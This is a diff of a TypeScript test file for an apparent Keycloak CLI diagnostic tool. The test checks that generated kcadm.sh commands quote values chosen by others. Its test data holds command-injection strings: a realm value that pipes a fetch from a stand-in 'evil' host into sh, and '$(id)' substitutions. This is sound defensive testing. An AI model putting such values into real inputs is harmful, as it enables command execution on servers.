@@ -2,8 +2,13 @@ import assert from 'node:assert/strict';
 import { readdirSync, readFileSync } from 'node:fs';
 import { test } from 'node:test';
 import { fileURLToPath } from 'node:url';
-import { kcadmDelete, kcadmServer } from '../../packages/cli/src/doctor/checks/authz/say.ts';
-import { kcadm } from '../../packages/cli/src/doctor/checks/client/say.ts';
+import {
+  kcadm,
+  kcadmDelete,
+  kcadmRealm,
+  kcadmServer,
+  kcadmServiceRole,
+} from '../../packages/cli/src/doctor/kcadm.ts';
 import { judgeStranger } from '../../packages/cli/src/keycloak/judge-stranger.ts';
 import { readProgram, type SyntaxNode, walk } from '../../packages/cli/src/source/syntax.ts';
 
@@ -12,7 +17,17 @@ import { readProgram, type SyntaxNode, walk } from '../../packages/cli/src/sourc
 const SOURCES = fileURLToPath(new URL('../../packages/cli/src', import.meta.url));
 const COMMAND = /kcadm\.sh|npx keycloak-guard|curl -i/;
 /** Words of a shell already: `$(kcadm.sh …)`, a uuid in a path, a setting that this program chose. */
-const READY = ['id', 'path', 'setting', 'realmWord', 'queryWord', 'imports'];
+const READY = [
+  'path',
+  'setting',
+  'flags',
+  'account',
+  'role',
+  'realmWord',
+  'queryWord',
+  'clientWord',
+  'imports',
+];
 
 test('hold what others chose as words that run nothing', () => {
   const caller = { realm: 'x;curl evil|sh', clientId: "y'$(id)" };
@@ -23,6 +38,8 @@ test('hold what others chose as words that run nothing', () => {
     kcadm(reach, `redirectUris+=http://x/'$(id)'`),
     kcadmServer(reach, 'a=b'),
     kcadmDelete(reach, 'policy/7'),
+    kcadmRealm(caller.realm, 'enabled=true'),
+    kcadmServiceRole(reach, 'uma_protection'),
     judgeStranger(answer)?.fix ?? '',
   ];
   for (const one of all) {
